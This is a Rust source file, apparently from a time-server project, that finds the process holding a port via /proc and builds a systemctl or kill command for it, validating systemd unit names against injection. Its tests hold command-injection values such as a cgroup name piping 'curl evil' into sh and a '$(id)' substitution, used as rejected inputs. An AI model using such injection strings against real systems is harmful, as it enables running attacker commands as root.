//! The process that holds a port which this server wants.

use std::fmt;
use std::net::{IpAddr, SocketAddr};
use std::path::Path;

use crate::safe_text::{one_line, shell_word};

/// A process, as shown to the operator.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Holder {
    /// Name of the process, on one line. The process chooses it.
    pub(crate) name: String,
    /// Process ID.
    pub(crate) pid: u32,
    /// The system service of the process.
    pub(crate) unit: Option<String>,
}

impl Holder {
    /// Returns the command that ends the process and keeps it from coming back.
    pub(crate) fn command_to_end_it(&self) -> String {
        match &self.unit {
            Some(unit) => format!("systemctl disable --now {}", shell_word(unit)),
            None => format!("kill {}", self.pid),
        }
    }

    /// Reads the process from its directory in /proc.
    pub(crate) fn of(process: &Path, pid: u32) -> Self {
        let name = std::fs::read(process.join("comm")).unwrap_or_default();
        let name = String::from_utf8_lossy(name.trim_ascii_end());
        let groups = std::fs::read_to_string(process.join("cgroup")).unwrap_or_default();
        Self { name: one_line(&name).into_owned(), pid, unit: unit(&groups) }
    }
}

impl fmt::Display for Holder {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} (process {})", self.name, self.pid)
    }
}

/// Returns the system service in which the process was started, from /proc/PID/cgroup.
///
/// The name becomes part of a command for root, so it has to be one that only root can have given. systemd manages the
/// groups of slices itself, and lets others make groups, under any name, below units alone: users below their manager
/// in `user.slice`, and services with `Delegate=` below themselves. So the service has to be a child of slices that are
/// not a user's, and the process directly in it. Only systemd's own hierarchy counts, because those of other
/// controllers may belong to users as a whole.
fn unit(groups: &str) -> Option<String> {
    let path = groups.lines().find_map(|line| {
        let (_number, rest) = line.split_once(':')?;
        let (controllers, path) = rest.split_once(':')?;
        matches!(controllers, "" | "name=systemd").then_some(path)
    })?;
    let (slices, unit) = path.strip_prefix('/')?.rsplit_once('/')?;
    let is_system = slices
        .split('/')
        .all(|slice| slice.strip_suffix(".slice").is_some_and(|slice| !slice.starts_with("user")));
    // systemd's `unit_name_is_valid`. One that begins with a hyphen would be an option.
    let valid = |c: char| c.is_ascii_alphanumeric() || ":-_.\\@".contains(c);
    let is_unit = unit.ends_with(".service") && !unit.starts_with(['-', '.']) && unit.chars().all(valid);
    (is_system && is_unit).then(|| unit.to_owned())
}

/// Returns the process that holds a local port. `table` is a file of /proc/net: udp, udp6, tcp or tcp6.
pub(crate) fn of_port(table: &str, port: u16) -> Option<Holder> {
    let inode = socket(table, port)?;
    std::fs::read_dir("/proc").ok()?.flatten().find_map(|process| {
        let pid = process.file_name().to_string_lossy().parse().ok()?;
        holds(&process.path(), &inode).then(|| Holder::of(&process.path(), pid))
    })
}

/// Whether a process holds a local port, even if it cannot be found out which one.
pub(crate) fn is_held(table: &str, port: u16) -> bool {
    socket(table, port).is_some()
}

/// Returns the inode of the socket that holds a local port, as a name for it while it is there.
pub(crate) fn socket(table: &str, port: u16) -> Option<String> {
    // This is the file of this thread's network namespace.
    let text = std::fs::read_to_string(format!("/proc/thread-self/net/{table}")).ok()?;
    socket_of(&text, port).map(ToOwned::to_owned)
}

/// Returns the inodes of all sockets with a local port, connected ones among them. A table that is not there, because
/// the kernel does not support the family, has none.
///
/// # Errors
///
/// The table cannot be read.
pub(crate) fn sockets(table: &str, port: u16) -> std::io::Result<Vec<String>> {
    let text = match std::fs::read_to_string(format!("/proc/thread-self/net/{table}")) {
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        text => text?,
    };
    Ok(sockets_of(&text, port).map(|(_, inode)| inode.to_owned()).collect())
}

/// Whether this process holds a local port.
pub(crate) fn is_held_here(table: &str, port: u16) -> bool {
    socket(table, port).is_some_and(|inode| holds(Path::new("/proc/self"), &inode))
}

/// Whether a process has a descriptor of the socket with this inode.
fn holds(process: &Path, inode: &str) -> bool {
    let wanted = format!("socket:[{inode}]");
    std::fs::read_dir(process.join("fd")).is_ok_and(|descriptors| {
        descriptors.flatten().any(|descriptor| {
            std::fs::read_link(descriptor.path()).is_ok_and(|target| target.to_string_lossy() == wanted)
        })
    })
}

/// Whether a socket is bound to exactly this loopback address and port, and not to all addresses of the host.
pub(crate) fn is_bound(address: SocketAddr) -> bool {
    let table = if address.is_ipv4() { "udp" } else { "udp6" };
    std::fs::read_to_string(format!("/proc/thread-self/net/{table}"))
        .is_ok_and(|text| has_socket_at(&text, address))
}

fn has_socket_at(table: &str, address: SocketAddr) -> bool {
    // The kernel prints the words of an address in the machine's order.
    let word = |bytes: &[u8]| format!("{:08X}", u32::from_ne_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]));
    let host: String = match address.ip() {
        IpAddr::V4(ipv4) => word(&ipv4.octets()),
        IpAddr::V6(ipv6) => ipv6.octets().chunks(4).map(word).collect(),
    };
    let local = format!("{host}:{:04X}", address.port());
    table.lines().skip(1).any(|line| line.split_whitespace().nth(1) == Some(&local))
}

/// Returns the inode of the socket that listens on this port, from a table of sockets.
fn socket_of(table: &str, port: u16) -> Option<&str> {
    // Connections have the same local port.
    sockets_of(table, port).find_map(|(remote, inode)| remote.ends_with(":0000").then_some(inode))
}

/// Returns the remote addresses and the inodes of all sockets with this local port, from a table of sockets.
fn sockets_of(table: &str, port: u16) -> impl Iterator<Item = (&str, &str)> {
    table.lines().skip(1).filter_map(move |line| {
        let columns: Vec<_> = line.split_whitespace().collect();
        let (address, remote, inode) = (columns.get(1)?, columns.get(2)?, columns.get(9)?);
        let held = u16::from_str_radix(address.rsplit(':').next()?, 16).ok()?;
        (held == port).then_some((*remote, *inode))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_socket_that_waits_at_a_port_is_told_from_connections_with_the_same_port() {
        let table = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n\
            37: 0100007F:007B 0200007F:CAFE 01 00000000:00000000 00:00000000 00000000     0        0 11 2 0 0\n\
            38: 00000000:007B 00000000:0000 07 00000000:00000000 00:00000000 00000000     0        0 4711 2 0 0\n";
        assert_eq!(socket_of(table, 123), Some("4711"));
        assert_eq!(sockets_of(table, 123).map(|(_, inode)| inode).collect::<Vec<_>>(), ["11", "4711"]);
        assert_eq!(socket_of(table, 124), None);
        assert_eq!(socket_of("no table\n1 2 3\n", 123), None);
    }

    #[test]
    fn a_socket_of_one_address_is_told_from_one_of_all() {
        let table = "  sl  local_address rem_address   st\n\
            37: 00000000:007B 00000000:0000 07\n  38: 0100007F:007B 00000000:0000 07\n\
            39: 00000000000000000000000001000000:007B 00000000000000000000000000000000:0000 07\n";
        let has = |address: &str| has_socket_at(table, address.parse().unwrap());
        // As a little-endian machine prints them.
        assert!(cfg!(target_endian = "big") || (has("127.0.0.1:123") && has("[::1]:123")));
        assert!(!has("127.0.0.1:124") && !has("127.0.0.2:123") && !has("[::2]:123"));
        let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        assert!(is_bound(socket.local_addr().unwrap()));
    }

    #[test]
    fn a_process_is_ended_by_its_unit_where_it_has_one() {
        let chrony = "12:cpu:/system.slice\n0::/system.slice/chrony.service\n";
        assert_eq!(unit(chrony).as_deref(), Some("chrony.service"));
        let templated = r"1:name=systemd:/system.slice/system-ntp.slice/ntp@a\x2db.service";
        assert_eq!(unit(templated).as_deref(), Some(r"ntp@a\x2db.service"));
        let holder = |unit| Holder { name: "chronyd".into(), pid: 7, unit };
        assert_eq!(holder(unit(chrony)).command_to_end_it(), "systemctl disable --now chrony.service");
        assert_eq!(
            holder(unit(templated)).command_to_end_it(),
            r"systemctl disable --now 'ntp@a\x2db.service'"
        );
        assert_eq!(holder(None).command_to_end_it(), "kill 7");
    }

    #[test]
    fn a_group_that_somebody_else_than_systemd_may_have_made_names_no_unit() {
        for groups in [
            "",
            "0::/",
            "0::/../x.service",
            "0::/x.service",
            "0::/init.scope",
            "0::/user.slice/user-1000.slice/user@1000.service",
            "0::/user.slice/user-1000.slice/user@1000.service/app.slice/x.service",
            "0::/user.slice/user-1000.slice/user@1000.service/system.slice/x.service",
            "0::/user.slice/user-1000.slice/session-3.scope",
            "0::/system.slice/delegating.service/x.service",
            "0::/system.slice/docker-0123.scope/system.slice/x.service",
            "0::/machine.slice/a.scope/payload/system.slice/x.service",
            "12:cpu:/system.slice/x.service",
            "0::/system.slice/a;curl evil|sh;.service",
            "0::/system.slice/$(id).service",
            "0::/system.slice/a b.service",
            "0::/system.slice/--now.service",
            "0::/system.slice/.service",
            "0::/system.slice/x.scope",
            "0::/system.slice/x.service (deleted)",
        ] {
            assert_eq!(unit(groups), None, "{groups}");
        }
    }

    #[test]
    fn the_name_of_a_process_stays_on_its_line() {
        let directory = std::env::temp_dir().join(format!("pooltime-holder-{}", std::process::id()));
        std::fs::create_dir(&directory).unwrap();
        std::fs::write(directory.join("comm"), b"a\nb\x1b[2J\xff\n").unwrap();
        let holder = Holder::of(&directory, 7);
        std::fs::remove_dir_all(directory).unwrap();
        assert_eq!(holder.to_string(), "a\\nb\\u{1b}[2J\u{fffd} (process 7)");
    }
}
